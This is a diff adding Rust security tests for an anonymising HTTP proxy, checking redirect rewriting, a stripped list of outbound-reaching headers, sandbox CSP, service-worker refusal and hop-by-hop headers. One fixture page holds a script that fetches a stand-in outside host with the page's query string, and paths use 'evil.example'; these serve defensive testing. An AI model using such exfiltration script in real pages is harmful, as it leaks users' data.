@@ -9,6 +9,7 @@ use std::time::Duration;
 use bytes::Bytes;
 use edgekit_host::{Exchange, Host, HostBuilder, Outcome};
 use edgekit_tests::portable::{self, Other, assert_same};
+use edgekit_tests::two_hosts::{Payload, TwoHosts};
 use edgekit_tests::{ANON_PROXY, Backend, Received};
 use http::{HeaderMap, Response};
 use http_body_util::{BodyExt, Full, StreamBody};
@@ -1020,4 +1021,310 @@ async fn runs_unchanged_under_jco() {
 #[tokio::test]
 async fn runs_unchanged_under_wasmtime_serve() {
     assert_portable(Other::Wasmtime).await;
+}
+
+// ---- Attacks (issue 21): each under edgekit-host and `wasmtime serve`,
+// with a loopback origin listed exactly, and the exact answer asserted.
+
+const TOKEN: &str = "tok-en";
+
+/// The proxy allowed to reach `origin` only, with `extra` settings.
+async fn two_hosts(origin: &Backend, extra: &[(&str, &str)]) -> TwoHosts {
+    let mut env = vec![
+        ("ALLOWED_HOSTS", "127.0.0.1".to_owned()),
+        ("ALLOWED_PORTS", origin.addr.port().to_string()),
+    ];
+    env.extend(extra.iter().map(|(k, v)| (*k, v.to_string())));
+    TwoHosts::start(ANON_PROXY, &env).await
+}
+
+fn request(
+    method: &str,
+    uri: &str,
+    headers: &[(&str, &str)],
+    body: &'static str,
+) -> http::Request<Payload> {
+    let mut request = http::Request::builder().method(method).uri(uri);
+    for (name, value) in headers {
+        request = request.header(*name, *value);
+    }
+    request
+        .body(Payload::Whole(Bytes::from_static(body.as_bytes())))
+        .unwrap()
+}
+
+/// An origin that answers `status` with `Location: location`.
+async fn redirecting(status: u16, location: &'static str) -> Backend {
+    Backend::start(move |_| async move {
+        Response::builder()
+            .status(status)
+            .header("location", location)
+            .body(Bytes::new())
+            .unwrap()
+    })
+    .await
+}
+
+#[tokio::test]
+async fn a_rewritten_location_never_leaves_the_proxy_even_with_the_token() {
+    let origin = redirecting(302, "/next?a=1").await;
+    let port = origin.addr.port();
+    let next = format!("/?url=http%3A%2F%2F127.0.0.1%3A{port}%2Fnext%3Fa%3D1");
+    let target = encode(&format!("http://127.0.0.1:{port}/first"));
+    for (token, query, expected) in [
+        (
+            Some(TOKEN),
+            format!("url={target}&token={TOKEN}"),
+            format!("{next}&token={TOKEN}"),
+        ),
+        (None, format!("url={target}"), next.clone()),
+    ] {
+        let mut env = vec![("REDIRECT_MODE", "rewrite")];
+        env.extend(token.map(|t| ("ACCESS_TOKEN", t)));
+        let hosts = two_hosts(&origin, &env).await;
+        for path in ["//evil.example/", "/some/path"] {
+            let uri = format!("{path}?{query}");
+            for answer in hosts.send(|_| request("GET", &uri, &[], "")).await {
+                assert_eq!(
+                    answer.status,
+                    302,
+                    "{} {uri}: {}",
+                    answer.which,
+                    answer.text()
+                );
+                assert_eq!(
+                    answer.header("location"),
+                    expected,
+                    "{} {uri}",
+                    answer.which
+                );
+            }
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_307_for_a_post_in_follow_mode_goes_back_through_the_proxy_root() {
+    let origin = redirecting(307, "/post-next").await;
+    let port = origin.addr.port();
+    let hosts = two_hosts(
+        &origin,
+        &[("ACCESS_TOKEN", TOKEN), ("ALLOWED_METHODS", "POST")],
+    )
+    .await;
+    let uri = format!(
+        "//evil.example/?url={}&token={TOKEN}",
+        encode(&format!("http://127.0.0.1:{port}/post"))
+    );
+    for answer in hosts.send(|_| request("POST", &uri, &[], "form=1")).await {
+        assert_eq!(answer.status, 307, "{}: {}", answer.which, answer.text());
+        assert_eq!(
+            answer.header("location"),
+            format!("/?url=http%3A%2F%2F127.0.0.1%3A{port}%2Fpost-next&token={TOKEN}"),
+            "{}",
+            answer.which
+        );
+    }
+}
+
+/// An HTML page whose headers would make the browser reach the target.
+async fn chatty_origin() -> Backend {
+    Backend::start(|_| async {
+        Response::builder()
+            .header("content-type", "text/html")
+            .header(
+                "link",
+                "<https://target.example/app.css>; rel=preload; as=style",
+            )
+            .header("refresh", "0; url=https://target.example/")
+            .header("speculation-rules", "\"/rules.json\"")
+            .header("service-worker-allowed", "/")
+            .header("set-login", "logged-in")
+            .header(
+                "expect-ct",
+                "max-age=1, report-uri=\"https://target.example/ct\"",
+            )
+            .header(
+                "content-security-policy-report-only",
+                "default-src 'none'; report-uri /r",
+            )
+            .header(
+                "content-security-policy",
+                "img-src 'self'; report-uri https://target.example/csp; report-to t",
+            )
+            .header("reporting-endpoints", "t=\"https://target.example/r\"")
+            .header("accept-ch", "sec-ch-ua-model")
+            .header("origin-agent-cluster", "?1")
+            .header("x-kept", "yes")
+            .body(Bytes::from_static(
+                b"<script>fetch('https://target.example/?'+location.search)</script>",
+            ))
+            .unwrap()
+    })
+    .await
+}
+
+const DROPPED: [&str; 11] = [
+    "link",
+    "refresh",
+    "speculation-rules",
+    "service-worker-allowed",
+    "set-login",
+    "expect-ct",
+    "content-security-policy-report-only",
+    "reporting-endpoints",
+    "accept-ch",
+    "origin-agent-cluster",
+    "set-cookie",
+];
+
+const SANDBOX: &str = "sandbox; default-src 'none'; img-src 'self' data:; media-src 'self' data:; \
+style-src 'self' 'unsafe-inline'; font-src 'self' data:; form-action 'none'; base-uri 'none'";
+
+#[tokio::test]
+async fn a_proxied_page_is_sandboxed_and_loses_every_header_that_reaches_out() {
+    let origin = chatty_origin().await;
+    let target = via(&format!("http://127.0.0.1:{}/page", origin.addr.port()));
+    for (sandbox, csp) in [
+        (None, vec!["img-src 'self'", SANDBOX]),
+        (Some("false"), vec!["img-src 'self'"]),
+    ] {
+        let mut env = vec![("ACCESS_TOKEN", TOKEN)];
+        env.extend(sandbox.map(|s| ("SANDBOX", s)));
+        let hosts = two_hosts(&origin, &env).await;
+        let bearer = format!("Bearer {TOKEN}");
+        for answer in hosts
+            .send(|_| request("GET", &target, &[("authorization", &bearer)], ""))
+            .await
+        {
+            assert_eq!(answer.status, 200, "{}: {}", answer.which, answer.text());
+            for gone in DROPPED {
+                assert!(
+                    !answer.headers.contains_key(gone),
+                    "{}: {gone} passed",
+                    answer.which
+                );
+            }
+            assert_eq!(
+                answer.all("content-security-policy"),
+                csp,
+                "{}",
+                answer.which
+            );
+            assert_eq!(answer.header("x-kept"), "yes");
+            assert_eq!(answer.header("referrer-policy"), "no-referrer");
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_service_worker_script_fetch_is_refused_before_anything_is_sent() {
+    let origin = ok_origin().await;
+    let hosts = two_hosts(&origin, &[]).await;
+    let target = via(&format!("http://127.0.0.1:{}/sw.js", origin.addr.port()));
+    for value in ["script", "Script"] {
+        for answer in hosts
+            .send(|_| request("GET", &target, &[("service-worker", value)], ""))
+            .await
+        {
+            assert_eq!(answer.status, 403, "{}", answer.which);
+            assert_eq!(
+                answer.text(),
+                "service workers cannot be registered through this proxy\n",
+                "{}",
+                answer.which
+            );
+        }
+    }
+    assert!(origin.received().is_empty());
+}
+
+#[tokio::test]
+async fn headers_named_in_connection_are_not_forwarded_under_either_host() {
+    let origin = ok_origin().await;
+    let hosts = two_hosts(&origin, &[]).await;
+    let target = via(&format!("http://127.0.0.1:{}/", origin.addr.port()));
+    for answer in hosts
+        .send(|_| {
+            request(
+                "GET",
+                &target,
+                &[
+                    ("connection", "x-secret-hop, accept-language"),
+                    ("x-secret-hop", "1"),
+                    ("keep-alive", "timeout=5"),
+                ],
+                "",
+            )
+        })
+        .await
+    {
+        assert_eq!(answer.status, 200, "{}", answer.which);
+    }
+    let received = origin.received();
+    assert_eq!(received.len(), 2);
+    for got in received {
+        for name in ["x-secret-hop", "keep-alive"] {
+            assert!(!got.headers.contains_key(name), "{name} was forwarded");
+        }
+    }
+}
+
+#[tokio::test]
+async fn a_cut_body_a_bad_url_and_a_dead_target_answer_fixed_messages() {
+    let origin = ok_origin().await;
+    let hosts = two_hosts(&origin, &[("ALLOWED_METHODS", "POST")]).await;
+    let target = via(&format!("http://127.0.0.1:{}/", origin.addr.port()));
+    for answer in hosts
+        .send(|_| request("GET", "/?url=http%3A%2F%2F%5B%3A%3A1", &[], ""))
+        .await
+    {
+        assert_eq!(answer.status, 400, "{}", answer.which);
+        assert_eq!(answer.text(), "the url parameter is not an absolute URL\n");
+    }
+
+    for answer in hosts
+        .send(|_| {
+            let mut cut = request("POST", &target, &[("content-type", "text/plain")], "");
+            *cut.body_mut() = Payload::Cut {
+                sent: Bytes::from(vec![b'x'; 50_000]),
+                declared: 200_000,
+            };
+            cut
+        })
+        .await
+    {
+        // The body streams to the target as it arrives: the cut fails
+        // the target's request, and the client learns only that.
+        assert_eq!(answer.status, 502, "{}: {}", answer.which, answer.text());
+        assert!(
+            answer
+                .text()
+                .starts_with("the target could not be reached (request id: "),
+            "{}: {}",
+            answer.which,
+            answer.text()
+        );
+    }
+
+    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = closed.local_addr().unwrap().port().to_string();
+    drop(closed);
+    let env = [
+        ("ALLOWED_HOSTS", "127.0.0.1".to_owned()),
+        ("ALLOWED_PORTS", port.clone()),
+    ];
+    let down = TwoHosts::start(ANON_PROXY, &env).await;
+    let target = via(&format!("http://127.0.0.1:{port}/"));
+    for answer in down.send(|_| request("GET", &target, &[], "")).await {
+        assert_eq!(answer.status, 502, "{}", answer.which);
+        assert!(
+            answer
+                .text()
+                .starts_with("the target could not be reached (request id: "),
+            "{}: {}",
+            answer.which,
+            answer.text()
+        );
+    }
 }
